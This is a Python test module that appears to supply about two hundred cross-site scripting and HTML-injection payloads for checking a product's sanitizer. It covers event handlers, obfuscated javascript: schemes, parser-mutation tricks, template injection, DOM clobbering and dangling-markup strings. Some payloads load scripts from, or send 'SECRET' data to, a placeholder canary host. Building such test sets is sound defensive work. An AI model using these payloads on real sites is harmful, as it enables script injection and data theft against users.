"""Markup that tries to run, to load something from elsewhere, or to change the page around it.

Families after the lists that everybody tests with (event handlers, mutation, schemes, templates, clobbering); written
for this product. `CANARY` stands for an address that nobody may ask for anything.
"""

from collections.abc import Iterator

CANARY = 'CANARY'
RUN = 'alert(1)'

_EVENTS = (
    'onload', 'onerror', 'onclick', 'onmouseover', 'onfocus', 'onblur', 'onanimationstart', 'onanimationend',
    'ontransitionend', 'onbeforetoggle', 'ontoggle', 'onpointerenter', 'onpointerover', 'onwheel', 'onscroll',
    'onscrollend', 'oncut', 'onpaste', 'oncopy', 'oninput', 'onbeforeinput', 'oncontentvisibilityautostatechange',
    'onsecuritypolicyviolation', 'onslotchange', 'ontouchstart', 'ondrag', 'onresize', 'onhashchange', 'onpageshow',
    'onmessage', 'onfinish', 'onbounce', 'onstart', 'onbegin', 'onend', 'onrepeat', 'onloadstart', 'oncanplay',
)  # fmt: skip
_CARRIERS = ('img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'marquee', 'p tabindex=0')
_SCHEMES = (
    'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', 'java\tscript:alert(1)',
    'java\nscript:alert(1)', 'java\rscript:alert(1)', '\x01javascript:alert(1)', 'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)', '&#x6A;avascript:alert(1)', '&#0000106avascript:alert(1)', 'javascript&#58;alert(1)',
    'javascript\u2028:alert(1)', 'vbscript:msgbox(1)', 'livescript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'data:image/svg+xml,<svg onload=alert(1)>',
    'blob:alert(1)', 'filesystem:alert(1)', '//CANARY/link', '\\\\CANARY\\share', '/\\CANARY/link',
    'file:///etc/passwd',
    'javascript://%0aalert(1)', 'javascript:/*--></title></style>*/alert(1)', 'feed:javascript:alert(1)',
)  # fmt: skip
_MUTATION = (
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<svg><desc><img src=x onerror=alert(1)></desc></svg>',
    '<svg><title><style><img src=x onerror=alert(1)></style></title></svg>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<table><tr><td><svg><desc><td><img src=x onerror=alert(1)></td></desc></svg></td></tr></table>',
    '<p><svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></p></foreignObject></svg>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<a title="<!--"></a><img title="--><img src=x onerror=alert(1)>">',
    '<!--><img src=x onerror=alert(1)>-->', '<!--!><img src=x onerror=alert(1)>-->',
    '<? <img src=x onerror=alert(1)> ?>',
    '<![CDATA[<img src=x onerror=alert(1)>]]>', '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert(1)</script>">', '<<script>alert(1);//<</script>', '<script\x00>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>', '\ufeff<script>alert(1)</script>', '＜script＞alert(1)＜/script＞',
    '<ſcript>alert(1)</ſcript>', '<ımg src=x onerror=alert(1)>', '&lt;img src=x onerror=alert(1)&gt;',
    '&amp;lt;img src=x onerror=alert(1)&amp;gt;', '%3Cimg%20src=x%20onerror=alert(1)%3E',
    '\\u003cimg src=x onerror=alert(1)>',
    '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", '</title><img src=x onerror=alert(1)>',
    '</script><script>alert(1)</script>', '</style><img src=x onerror=alert(1)>', '`-alert(1)-`', "';alert(1)//",
    '${alert(1)}', '<div is="script">alert(1)</div>', '<p><div><table><p></table><img src=x onerror=alert(1)>',
)  # fmt: skip
_ELEMENTS = (
    '<script>alert(1)</script>', '<script src=//CANARY/x.js></script>', '<script type=module>alert(1)</script>',
    '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<iframe src=//CANARY/frame></iframe>', '<object data="javascript:alert(1)"></object>', '<object data=//CANARY/o>',
    '<embed src="javascript:alert(1)">', '<embed src=//CANARY/e>', '<applet code=//CANARY/a></applet>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">', '<meta http-equiv=refresh content="0;//CANARY/">',
    '<base href=//CANARY/>', '<link rel=stylesheet href=//CANARY/x.css>', '<link rel=prefetch href=//CANARY/p>',
    '<link rel=dns-prefetch href=//CANARY>', '<link rel=preload as=image href=//CANARY/l>',
    '<style>@import "//CANARY/i";</style>',
    '<style>body{background:url(//CANARY/b)}</style>', '<style>*{display:none!important}</style>',
    '<p style="background:url(//CANARY/s)">x</p>', '<p style="position:fixed;inset:0;z-index:9999">x</p>',
    '<p style="-moz-binding:url(//CANARY/m)">x</p>', '<p style="width:expression(alert(1))">x</p>',
    '<img src=//CANARY/i.png>', '<img srcset="//CANARY/s.png 1x">', '<picture><source srcset=//CANARY/p.png></picture>',
    '<img src=x lowsrc=//CANARY/l.png dynsrc=//CANARY/d.png>', '<video poster=//CANARY/v.png></video>',
    '<video src=//CANARY/v.mp4 autoplay></video>', '<audio src=//CANARY/a.mp3 autoplay></audio>',
    '<video><track src=//CANARY/t.vtt default></video>', '<input type=image src=//CANARY/in.png>',
    '<table background=//CANARY/t.png><tr><td background=//CANARY/td.png>x</table>', '<body background=//CANARY/b.png>',
    '<svg><image href=//CANARY/s.png /></svg>', '<svg><use href="//CANARY/u.svg#x"/></svg>',
    '<svg><script>alert(1)</script></svg>', '<svg><script href="data:,alert(1)"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><animate attributeName=href values="javascript:alert(1)" /></svg>',
    '<svg><set attributeName=onload to=alert(1) /></svg>',
    '<math href="javascript:alert(1)">x</math>', '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>', '<form action=//CANARY/f><input name=q value=SECRET></form>',
    '<a ping=//CANARY/ping href=/ok>x</a>', '<a href=//CANARY/prefetch rel=prefetch>x</a>',
    '<isindex action="javascript:alert(1)" type=image>', '<frameset onload=alert(1)>', '<bgsound src=//CANARY/b>',
    '<portal src=//CANARY/portal></portal>', '<fencedframe src=//CANARY/ff></fencedframe>',
    '<dialog open onclose=alert(1)>x</dialog>', '<template shadowrootmode=open><img src=x onerror=alert(1)></template>',
    '<object type=text/html data=//CANARY/oh></object>',
    '<img usemap=#m src=x><map name=m><area href="javascript:alert(1)"></map>',
    "<img src='//CANARY/dangling?", '<a href="//CANARY/dangling?', "<textarea name=q><p>SECRET",
)  # fmt: skip
_TEMPLATES = (
    '{{constructor.constructor("alert(1)")()}}', '{{_c.constructor("alert(1)")()}}',
    '{{$el.ownerDocument.defaultView.alert(1)}}',
    '<p v-html="\'<img src=x onerror=alert(1)>\'"></p>', '<p v-on:click="alert(1)">x</p>', '<p @click="alert(1)">x</p>',
    '<component :is="\'script\'">alert(1)</component>', '<p v-bind:onclick="\'alert(1)\'">x</p>',
    '<p :class="alert(1)">x</p>',
    '<p ng-app>{{$on.constructor("alert(1)")()}}</p>', '<p x-init="alert(1)">x</p>',
    '<p hx-get=//CANARY/hx hx-trigger=load>x</p>',
    '${{constructor.constructor("alert(1)")()}}', '#{alert(1)}', '<%= alert(1) %>', '{%raw%}{{alert(1)}}',
)  # fmt: skip
_CLOBBERING = (
    '<p id=location name=cookie>x</p>', '<a id=defaultView name=document>x</a>',
    '<form id=document><input name=cookie></form>',
    '<img name=getElementById>', '<a id=app>x</a>', '<a id=popup></a>',
    '<form name=body><input name=firstChild></form>',
    '<p id=__proto__ class=q-dialog>x</p>', '<aside class="callout q-dialog fixed-full" onclick=alert(1)>x</aside>',
    '<span class="formula" data-tex="\\href{javascript:alert(1)}{x}">x</span>',
    '<span class="formula" data-tex="\\text{<img src=x onerror=alert(1)>}">x</span>',
    '<span class="formula" data-tex=\'"><script>alert(1)</script>\'>x</span>',
    '<p data-act="approve" data-of="x">approve</p>', '<button data-act="approve">approve</button>',
)  # fmt: skip
_MARKDOWN = (
    '![x](http://CANARY/?q=SECRET)', '[x](javascript:alert(1))', '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
    '[x]: http://CANARY/ref\n![x]', '<http://CANARY/auto>', '$$\\href{javascript:alert(1)}{x}$$',
)  # fmt: skip


def payloads(canary: str = 'canary.invalid') -> list[str]:
    """About two hundred; `canary` is host and port of whoever counts what is asked of it."""
    return [text.replace(CANARY, canary) for text in _all()]


def _all() -> Iterator[str]:
    yield from _ELEMENTS
    yield from _MUTATION
    yield from _TEMPLATES
    yield from _CLOBBERING
    yield from _MARKDOWN
    for place, event in enumerate(_EVENTS):
        yield f'<{_CARRIERS[place % len(_CARRIERS)]} {event}={RUN}>x'
    for scheme in _SCHEMES:
        yield f'<a href="{scheme}">x</a>'
